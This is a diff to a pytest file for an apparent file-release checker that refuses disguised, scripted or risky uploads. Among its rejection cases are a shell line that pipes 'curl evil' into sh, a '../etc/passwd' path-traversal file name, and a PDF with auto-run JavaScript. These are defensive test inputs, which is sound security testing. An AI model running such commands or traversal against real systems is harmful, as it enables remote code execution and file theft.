@@ -39,6 +39,14 @@ def zip_bytes() -> bytes:
     return sink.getvalue()
 
 
+def jpeg() -> bytes:
+    from PIL import Image
+
+    sink = io.BytesIO()
+    Image.new("RGB", (4, 4), (200, 10, 10)).save(sink, format="JPEG")
+    return sink.getvalue()
+
+
 def tar_bytes() -> bytes:
     sink = io.BytesIO()
     with tarfile.open(fileobj=sink, mode="w") as t:
@@ -55,8 +63,10 @@ def tar_bytes() -> bytes:
         ("notes.txt", "résumé of results\n".encode(), "text"),
         ("README.md", b"# Results\n", "text"),
         ("plot.png", png(), "png"),
-        ("report.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n", "pdf"),
         ("t.parquet", parquet({"a": ["x"], "n": [12]}), "parquet"),
+        ("t.tsv", b"a\tn\nx\t12\n", "tsv"),
+        ("photo.jpg", jpeg(), "jpeg"),
+        ("analysis.py", b"print(1)\n", "text"),
     ],
 )
 def test_allowed_kinds_pass(name: str, data: bytes, kind: str) -> None:
@@ -75,14 +85,17 @@ def test_allowed_kinds_pass(name: str, data: bytes, kind: str) -> None:
         ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n", "script"),
         ("data.csv", b"\x1f\x8b\x08\x00" + b"\x00" * 20, "gzip"),
         ("t.parquet", b"SQLite format 3\x00" + b"\x00" * 100, "SQLite"),
-        ("archive.zip", zip_bytes(), "not allowed"),
-        ("run.sh", b"echo hi\n", "not allowed"),
-        ("noext", b"a,b\n", "not allowed"),
+        ("archive.zip", zip_bytes(), "an archive cannot be released"),
+        ("run.sh", b"echo hi\n", "accepted are tables"),
+        ("noext", b"a,b\n", "a file without extension"),
         ("plot.png", b"a,b\n1,2\n", "content is UTF-8 text"),  # name says png, content is text
         ("table.csv", png(), "PNG"),
         ("plot.png", png() + b"PK\x03\x04secret", "hidden after the end"),
-        ("report.pdf", b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n", "JavaScript"),
-        ("report.pdf", b"%PDF-1.4\n<< /Type /EmbeddedFile >>\n", "EmbeddedFile"),
+        ("report.pdf", b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n", "a PDF"),
+        ("report.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n", "accepted are tables"),
+        ("analysis.ipynb", b'{"cells": []}', "a notebook"),
+        ("book.xlsx", zip_bytes(), "an office file"),
+        ("photo.jpg", png(), "PNG"),
         ("../etc/passwd.csv", b"a\n", "file names"),
         ("empty.csv", b"", "empty"),
     ],
@@ -99,8 +112,8 @@ def test_size_and_row_caps() -> None:
     with pytest.raises(FileRefused) as err:
         run_all("t.csv", b"a,n\n" + b"x,10\n" * 4, CheckContext(limits=limits))
     assert "more than 3 rows" in err.value.message
-    kind, _ = run_all("t.csv", b"a,n\n" + b"x,10\n" * 3, CheckContext(limits=limits))
-    assert kind == "csv"
+    canon, _ = run_all("t.csv", b"a,n\n" + b"x,10\n" * 3, CheckContext(limits=limits))
+    assert canon.kind == "csv"
 
 
 # -- identifiers ---------------------------------------------------------------------------------
@@ -183,9 +196,10 @@ def test_differencing_total_and_clean_cases() -> None:
 
 
 def test_run_all_on_image_and_parquet() -> None:
-    kind, results = run_all("plot.png", png(), CheckContext(answers=ANSWERS))
-    assert kind == "png"
-    assert {r["rule"] for r in results} >= {"identifiers", "sdc.manual", "provenance"}
-    kind, results = run_all("t.parquet", parquet({"sex": ["female"], "n": [3]}), CheckContext())
-    assert kind == "parquet"
+    canon, results = run_all("plot.png", png(), CheckContext(answers=ANSWERS))
+    assert canon.kind == "png"
+    assert {r["rule"] for r in results} >= {"identifiers", "sdc.manual", "provenance", "canonical.metadata",
+                                             "canonical.size"}
+    canon, results = run_all("t.parquet", parquet({"sex": ["female"], "n": [3]}), CheckContext())
+    assert canon.kind == "parquet"
     assert {r["rule"]: r["outcome"] for r in results}["sdc.threshold"] == "fail"
